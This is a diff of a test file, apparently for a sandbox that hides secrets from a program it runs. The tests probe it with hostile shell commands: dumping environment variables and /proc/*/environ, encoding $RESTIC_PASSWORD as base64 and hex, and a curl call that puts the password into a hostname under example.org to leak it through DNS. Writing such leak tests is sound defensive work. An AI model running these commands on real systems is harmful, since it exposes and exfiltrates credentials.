@@ -117,6 +117,7 @@ describe('a program over stdin and stdout with the reach of a space', () => {
     expect(heard).toEqual([{ at: 'home', authorization: `Bearer ${VALUE}` }]);
     const everything = await tell('env; cat /proc/*/environ | tr "\\0" "\\n"; set; ls -R /run/aish /workspace');
     expect(everything).toContain('GREETING=hello');
+    expect(everything).toContain('NODE_USE_ENV_PROXY=1');
     expect(everything).toContain('HOME_TOKEN=aish-secret-');
     expect(everything).not.toContain(VALUE);
     expect(await tell('cat /sys/fs/cgroup/memory.max 2> /dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes')).toBe(String(96 * 2 ** 20)); // prettier-ignore
@@ -137,6 +138,14 @@ describe('a program over stdin and stdout with the reach of a space', () => {
       `30ae0211\n<aish-secret-abcdefghij0123456789>`,
     );
     expect(await tell('printf %s "$RESTIC_PASSWORD" | base64; printf %s "$RESTIC_PASSWORD" | od -An -tx1 | tr -d " \\n"; echo')).not.toMatch(new RegExp(`${Buffer.from(CLEAR).toString('base64').slice(4, -4)}|${Buffer.from(CLEAR).toString('hex')}`)); // prettier-ignore
+  });
+
+  it('tells nobody a name that holds what it has in clear', async () => {
+    const { tell, stderr } = await program();
+    const told = await tell('curl -sS --noproxy "" "http://$RESTIC_PASSWORD.example.org/"');
+    expect(told).toContain('is refused: its name holds a secret');
+    await until(() => Promise.resolve(stderr().includes('a-name-that-holds-a-secret')), 'it is told');
+    expect(told + stderr()).not.toContain(CLEAR);
   });
 
   it('without a space reaches nothing', async () => {
